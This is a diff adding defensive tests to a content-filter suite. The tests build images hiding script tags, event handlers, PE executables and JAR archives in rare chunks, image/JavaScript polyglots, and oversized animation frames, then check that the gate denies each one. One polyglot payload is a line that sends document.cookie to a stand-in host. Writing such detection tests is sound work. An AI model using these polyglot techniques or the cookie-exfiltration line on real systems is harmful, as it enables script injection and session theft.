@@ -3,11 +3,13 @@
 // judged under policies/default.yaml (DESIGN §5); inert look-alikes stay allowed. The fuzz targets check each
 // parser boundary: however a destination or attribute is re-encoded, the verdict and its reason stay the same.
 import path from 'node:path';
+import { crc32 } from 'node:zlib';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import type { Effect } from '../../src/decision/decision.ts';
 import { createGate } from '../../src/gate.ts';
 import { loadPolicy } from '../../src/policy/load-policy.ts';
+import * as make from '../fixtures/make-bytes.ts';
 
 const repoRoot = path.resolve(import.meta.dirname, '../..');
 const gate = createGate(await loadPolicy(path.join(repoRoot, 'policies/default.yaml')));
@@ -306,5 +308,194 @@ describe('fuzz: a destination keeps its verdict however it is spelled', () => {
       }),
       { numRuns: 150 },
     );
+  });
+});
+
+// ---------------------------------------------------------------- images: rare chunks, polyglots, frames
+
+const asBlob = (b: Buffer): Body => ({ blob: b.toString('base64') });
+const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');
+const u32be = (n: number): Buffer => {
+  const b = Buffer.alloc(4);
+  b.writeUInt32BE(n);
+  return b;
+};
+
+function pngChunk(type: string, data: Buffer): Buffer {
+  const body = Buffer.concat([latin1(type), data]);
+  return Buffer.concat([u32be(data.length), body, u32be(crc32(body) >>> 0)]);
+}
+
+// a PNG with `extra` chunks inserted before IDAT
+function pngWith(...extra: Buffer[]): Buffer {
+  const png = make.makePng();
+  const idat = png.indexOf('IDAT', 0, 'latin1') - 4;
+  return Buffer.concat([png.subarray(0, idat), ...extra, png.subarray(idat)]);
+}
+
+function subBlocks(data: Buffer): Buffer {
+  const parts: Buffer[] = [];
+  for (let i = 0; i < data.length; i += 255) {
+    const part = data.subarray(i, i + 255);
+    parts.push(Buffer.from([part.length]), part);
+  }
+  return Buffer.concat([...parts, Buffer.from([0])]);
+}
+
+// a GIF with one extension block (label, then a first block and data sub-blocks) before the trailer
+function gifWithExtension(label: number, first: Buffer, data: Buffer): Buffer {
+  const gif = make.makeGif();
+  const extension = Buffer.concat([Buffer.from([0x21, label, first.length]), first, subBlocks(data)]);
+  return Buffer.concat([gif.subarray(0, gif.length - 1), extension, Buffer.from([0x3b])]);
+}
+
+const payloads: Record<string, Buffer> = {
+  'a script element': latin1('<script>alert(1)</script>'),
+  'an event handler': latin1('<img src=x onerror=alert(1)>'),
+  'a pe executable': make.makePe(),
+};
+const hiddenPayloads = Object.keys(payloads);
+const payload = (name: string): Buffer => payloads[name] ?? Buffer.alloc(0);
+
+describe('script and programs in rare image chunks and extensions are denied', () => {
+  const chunks = ['prVt', 'stEg', 'pCAL', 'sPLT', 'gIFx', 'tXMP'];
+  test.each(product(chunks, hiddenPayloads))('png `%s` chunk holding %s', async (type, hidden) => {
+    const { effect, messages } = await decideItem(asBlob(pngWith(pngChunk(type, payload(hidden)))), 'image/png');
+    expect(effect).toBe('deny');
+    expect(messages).toContain(`png \`${type}\` chunk`);
+  });
+
+  const extensions: [string, number, Buffer][] = [
+    ['plain text', 0x01, Buffer.from([0, 0, 0, 0, 16, 0, 16, 0, 8, 8, 1, 0])],
+    ['application (unknown id)', 0xff, latin1('EVILAPP11.0')],
+    ['0x7f', 0x7f, latin1('x')],
+  ];
+  test.each(
+    product(extensions, hiddenPayloads).map(([[name, label, first], hidden]) => [name, hidden, label, first] as const),
+  )('gif %s extension holding %s', async (name, hidden, label, first) => {
+    const { effect, messages } = await decideItem(asBlob(gifWithExtension(label, first, payload(hidden))), 'image/gif');
+    expect(effect).toBe('deny');
+    expect(messages).toContain(`gif ${name.split(' (')[0]} extension`);
+  });
+
+  test.each([
+    ['png with a numbers-only private chunk', pngWith(pngChunk('prVt', Buffer.from([1, 2, 3, 4]))), 'image/png'],
+    [
+      'gif with a netscape loop extension',
+      gifWithExtension(0xff, latin1('NETSCAPE2.0'), Buffer.from([1, 0, 0])),
+      'image/gif',
+    ],
+    ['png with prose in a private chunk', pngWith(pngChunk('prVt', latin1('made with care; a < b'))), 'image/png'],
+  ])('allows %s', async (_, bytes, mime) => {
+    expect((await decideItem(asBlob(bytes), mime)).effect).toBe('allow');
+  });
+});
+
+// `<header>/*<image>*/<script>`: the header spells an identifier, the image is a comment, the script follows its end
+function scriptPolyglot(kind: 'gif87' | 'gif89' | 'bmp' | 'jpeg', script: string): Buffer {
+  if (kind === 'bmp') {
+    const bmp = make.makeBmp();
+    bmp.write('/*', 2, 'latin1'); // the size field: readers use the header and pixel offset
+    return Buffer.concat([bmp, latin1(`*/${script}`)]);
+  }
+  if (kind === 'jpeg') {
+    // APP0 length 0x2F2A spells `/*`: pad the segment to that length
+    const jpeg = make.makeJpeg();
+    const app0 = Buffer.concat([Buffer.from([0xff, 0xe0, 0x2f, 0x2a]), Buffer.alloc(0x2f2a - 2, 0x20)]);
+    return Buffer.concat([jpeg.subarray(0, 2), app0, jpeg.subarray(2), latin1(`*/${script}`)]);
+  }
+  const gif = make.makeGif({ width: 0x2a2f, height: 1 });
+  if (kind === 'gif87') gif.write('GIF87a', 0, 'latin1');
+  return Buffer.concat([gif, latin1(`*/${script}`)]);
+}
+
+describe('an image that is also a javascript program is denied', () => {
+  const scripts = ['=alert(1);', '=1;alert(document.domain)//', '\n;fetch("https://x.example/"+document.cookie)\n'];
+  const kinds = [
+    ['gif89', 'image/gif'],
+    ['gif87', 'image/gif'],
+    ['bmp', 'image/bmp'],
+    ['jpeg', 'image/jpeg'],
+  ] as const;
+  test.each(product(kinds, scripts))('%s with %j after its end', async ([kind, mime], script) => {
+    const { effect, messages } = await decideItem(asBlob(scriptPolyglot(kind, script)), mime);
+    expect(effect).toBe('deny');
+    expect(messages).toMatch(/javascript program \(polyglot\)|after the end/);
+  });
+
+  test('an image with a comment opener but no script after it is allowed', async () => {
+    expect((await decideItem(asBlob(make.makeGif({ width: 0x2a2f, height: 1 })), 'image/gif')).effect).toBe('allow');
+  });
+});
+
+// a JAR whose end-of-central-directory record says it holds `count` entries
+function jarCounting(count: number): Buffer {
+  const jar = make.makeJar();
+  const eocd = jar.length - 22;
+  jar.writeUInt16LE(count, eocd + 8);
+  jar.writeUInt16LE(count, eocd + 10);
+  return jar;
+}
+
+describe('an archive whose central directory lies about its entry count is still found', () => {
+  const carriers: [string, () => Buffer, string][] = [
+    ['png', () => make.makePng(), 'image/png'],
+    ['gif', () => make.makeGif(), 'image/gif'],
+    ['jpeg', () => make.makeJpeg(), 'image/jpeg'],
+    ['pdf', () => make.makePdf(), 'application/pdf'],
+  ];
+  test.each(product(carriers, [0, 1]))(
+    '%s followed by a runnable jar claiming %i entries',
+    async ([, carrier, mime], count) => {
+      const { effect, messages } = await decideItem(asBlob(Buffer.concat([carrier(), jarCounting(count)])), mime);
+      expect(effect).toBe('deny');
+      expect(messages).toMatch(/java archive|zip archive|polyglot/);
+    },
+  );
+
+  test('a jar inside a png chunk, its count zeroed, is found', async () => {
+    const bytes = pngWith(pngChunk('prVt', jarCounting(0)));
+    expect((await decideItem(asBlob(bytes), 'image/png')).effect).toBe('deny');
+  });
+});
+
+describe('pixel caps count every frame, not only the logical screen', () => {
+  // default.yaml caps images at 50 megapixels
+  function gifFrame(left: number, top: number, width: number, height: number): Buffer {
+    const gif = make.makeGif();
+    const descriptor = gif.indexOf(0x2c, 13);
+    gif.writeUInt16LE(left, descriptor + 1);
+    gif.writeUInt16LE(top, descriptor + 3);
+    gif.writeUInt16LE(width, descriptor + 5);
+    gif.writeUInt16LE(height, descriptor + 7);
+    return gif;
+  }
+  function apngFrame(width: number, height: number, x = 0, y = 0): Buffer {
+    const fctl = Buffer.concat([u32be(0), u32be(width), u32be(height), u32be(x), u32be(y), Buffer.alloc(6)]);
+    return pngWith(pngChunk('acTL', Buffer.concat([u32be(1), u32be(0)])), pngChunk('fcTL', fctl));
+  }
+  function webpFrame(width: number, height: number): Buffer {
+    const u24 = (n: number): Buffer => Buffer.from([n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff]);
+    const vp8x = Buffer.concat([latin1('VP8X'), Buffer.from([10, 0, 0, 0, 0x02, 0, 0, 0]), u24(0), u24(0)]);
+    const anmfData = Buffer.concat([u24(0), u24(0), u24(width - 1), u24(height - 1), u24(0), Buffer.from([0])]);
+    const anmf = Buffer.concat([latin1('ANMF'), Buffer.from([anmfData.length, 0, 0, 0]), anmfData]);
+    const body = Buffer.concat([latin1('WEBP'), vp8x, anmf]);
+    return Buffer.concat([latin1('RIFF'), Buffer.from([body.length & 0xff, body.length >> 8, 0, 0]), body]);
+  }
+  test.each([
+    ['a gif frame larger than its screen', gifFrame(0, 0, 60_000, 60_000), 'image/gif'],
+    ['a gif frame pushed out by its offset', gifFrame(60_000, 60_000, 8_000, 8_000), 'image/gif'],
+    ['a gif frame wide and short', gifFrame(0, 0, 65_535, 1_000), 'image/gif'],
+    ['an apng frame larger than its header', apngFrame(20_000, 20_000), 'image/png'],
+    ['an apng frame pushed out by its offset', apngFrame(2, 2, 100_000, 100_000), 'image/png'],
+    ['a webp animation frame', webpFrame(10_000, 10_000), 'image/webp'],
+  ])('denies %s', async (_, bytes, mime) => {
+    const { effect, messages } = await decideItem(asBlob(bytes), mime);
+    expect(effect).toBe('deny');
+    expect(messages).toMatch(/content.image-too-large/);
+  });
+
+  test('a frame within its screen keeps the image allowed', async () => {
+    expect((await decideItem(asBlob(gifFrame(0, 0, 1, 1)), 'image/gif')).effect).toBe('allow');
   });
 });
